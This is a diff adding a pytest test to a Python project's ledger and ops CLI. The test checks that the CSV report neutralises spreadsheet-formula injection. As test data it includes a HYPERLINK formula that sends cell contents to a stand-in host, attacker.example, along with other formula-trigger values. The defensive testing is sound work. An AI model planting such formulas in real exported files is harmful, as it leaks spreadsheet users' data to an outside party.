@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import subprocess
 import sys
@@ -9,6 +11,7 @@ import sys
 import pytest
 import redis
 
+from cgrid.event import parse_event
 from cgrid.ledger import Ledger
 from tests.helpers import ROOT, fleet_env
 
@@ -86,3 +89,16 @@ def test_from_a_pipe_each_id_is_printed_as_its_line_is_accepted(redis_url: str) 
     finally:
         process.kill()
         process.wait()
+
+
+def test_report_csv_cells_cannot_run_as_spreadsheet_formulas(redis_url: str) -> None:
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
+    ledger = Ledger(redis.Redis.from_url(redis_url))
+    events = [parse_event({**EVENT, "id": f"csv-{i}", **({"buyer": buyer} if buyer else {})})
+              for i, buyer in enumerate([formula, "@SUM(1+1)", "+1", "dsp-1", None])]
+    ledger.accept(events, ledger_ttl_s=60, report_ttl_s=60, redeliver_after_s=60)
+    result = subprocess.run([sys.executable, "-m", "ops.cli", "report", "--csv"], capture_output=True, text=True,
+                            env=fleet_env(redis_url), cwd=ROOT, timeout=60)
+    assert result.returncode == 0, result.stderr
+    buyers = [row["buyer"] for row in csv.DictReader(io.StringIO(result.stdout))]
+    assert sorted(buyers) == sorted(["'" + formula, "'@SUM(1+1)", "'+1", "dsp-1", "-"])
